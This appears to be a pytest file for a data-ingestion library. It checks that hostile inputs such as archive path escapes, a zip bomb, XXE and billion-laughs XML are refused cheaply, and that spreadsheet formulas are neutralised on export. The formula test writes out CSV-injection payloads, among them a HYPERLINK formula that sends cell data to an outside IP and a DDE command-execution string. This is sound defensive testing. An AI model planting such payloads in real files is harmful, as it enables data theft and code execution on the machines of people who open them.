"""The hostile and broken inputs of the platform set, each through the whole way of a dry run."""

from __future__ import annotations

import csv
import json
import resource
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

import pytest
from tests.support import SHARED, shared

from ecotone.ingest.delivery import Delivery, Orders, process
from ecotone.ingest.sinks import DrySink

FOLDER = "platform/faults"
EXPECTED = SHARED / FOLDER / "expected.csv"
ROWS = (
    list(csv.DictReader(EXPECTED.read_text(encoding="utf-8").splitlines()))
    if EXPECTED.exists()
    else []
)
#: What the words of the table mean: verdict, records taken, (code, row) of rejected rows.
OUTCOME: dict[str, tuple[str, int, set[tuple[str, int]]]] = {
    "formula.csv": ("accepted", 4, set()),
    "zh_gb18030.csv": ("accepted", 2, set()),
    "ru_cp1251_semicolon.csv": ("accepted", 2, set()),
    "mixed_timezones.csv": ("partial", 4, {("time-naive", 4), ("time-naive", 6)}),
    "truncated.csv": ("partial", 1, {("truncated-last-row", 2)}),
    "bom_crlf_nul.csv": ("partial", 1, {("nul-byte", 1)}),
}
REFUSED = {
    "tar_slip.tar": "archive-name-outside",
    "zip_slip.zip": "archive-name-outside",
    "zip_bomb_200MB.zip": "archive-bomb",
    "meta_location_escape.zip": "dwca-location-outside",
    "eml_xxe.xml": "xml-dtd",
    "eml_billion_laughs.xml": "xml-dtd",
    "nan_inf.json": "json-not-finite",
}


def deliver(path: Path) -> tuple[Delivery, list[dict[str, Any]]]:
    sink = DrySink()
    try:
        delivery = process(path, Orders(), sink)
        return delivery, [json.loads(line) for line in sink.findings()]
    finally:
        sink.close()


@pytest.fixture(scope="module", autouse=True)
def libraries() -> None:
    """Load what any delivery loads, so that each test times the delivery alone."""
    from ecotone.formats import delimited, registry

    registry.all_formats()
    assert delimited


@pytest.fixture
def watched(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder tree of known content with the working and temporary folders inside."""
    for name in ("work", "temporary"):
        (tmp_path / name).mkdir()
    monkeypatch.chdir(tmp_path / "work")
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "temporary"))
    return tmp_path


def listing(*folders: Path) -> set[Path]:
    return {path for folder in folders for path in folder.rglob("*")}


@pytest.mark.parametrize("row", ROWS, ids=[row["file"] for row in ROWS])
def test_each_fault_is_met_as_written(row: dict[str, str], watched: Path) -> None:
    path = shared(f"{FOLDER}/{row['file']}")
    beside = listing(watched, path.parent)
    start = time.process_time()
    delivery, findings = deliver(path)
    assert time.process_time() - start < 1
    assert listing(watched, path.parent) == beside, "something was written"
    rejected = {(f["code"], f["row"]) for f in findings if f["severity"] == "error"}
    if row["verdict"] == "reject":
        assert delivery.verdict == "refused"
        assert [f["code"] for f in findings if f["severity"] == "fatal"] == [REFUSED[row["file"]]]
    elif row["verdict"] == "per row":
        assert delivery.verdict == "partial"
        assert {n for _, n in rejected} == {5, 6, 7, 9, 10}
    else:
        verdict, records, errors = OUTCOME[row["file"]]
        assert delivery.verdict == verdict
        assert sum(delivery.records.values()) == records
        assert rejected == errors
        assert delivery.rejected == len(errors)


def test_the_table_of_faults_is_covered_whole() -> None:
    shared(f"{FOLDER}/expected.csv")
    assert {row["file"] for row in ROWS} == {*OUTCOME, *REFUSED, "coords_bad.csv"}


def test_guesses_are_told() -> None:
    for name in ("zh_gb18030.csv", "ru_cp1251_semicolon.csv"):
        _, findings = deliver(shared(f"{FOLDER}/{name}"))
        assert {f["code"] for f in findings} >= {"encoding-guessed", "unmapped"}


@pytest.mark.parametrize("name", ["eml_billion_laughs.xml", "eml_xxe.xml", "zip_bomb_200MB.zip"])
def test_hostile_files_cost_next_to_no_memory(name: str) -> None:
    path = shared(f"{FOLDER}/{name}")
    deliver(path)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    deliver(path)
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert grown * (1 if sys.platform == "darwin" else 1024) < 5 << 20


def test_formulas_are_stored_as_given_and_leave_harmless(tmp_path: Path) -> None:
    import pandas as pd

    from ecotone.formats.base import ReadOptions
    from ecotone.formats.csv import FORMAT, write_csv
    from ecotone.formats.safe import open_source

    with open_source(shared(f"{FOLDER}/formula.csv")) as source:
        (table,) = FORMAT.read(source, ReadOptions(), lambda f: None, lambda *row: None)
    assert table.frame["recordedBy"].tolist() == [
        '=HYPERLINK("http://203.0.113.7/?x="&A1,"click")', "+1+1", "-2+3", "=cmd|' /C calc'!A0",
    ]  # fmt: skip
    assert table.frame["occurrenceRemarks"].tolist() == ["ok", "@SUM(A1:A2)", "\t=1+1", "-5.2"]
    out = tmp_path / "out.csv"
    write_csv(out, table.frame)
    cells = pd.read_csv(out, dtype="str")
    assert [c[0] for c in cells["recordedBy"]] == ["'"] * 4
    assert cells["occurrenceRemarks"].tolist() == ["ok", "'@SUM(A1:A2)", "'\t=1+1", "-5.2"]
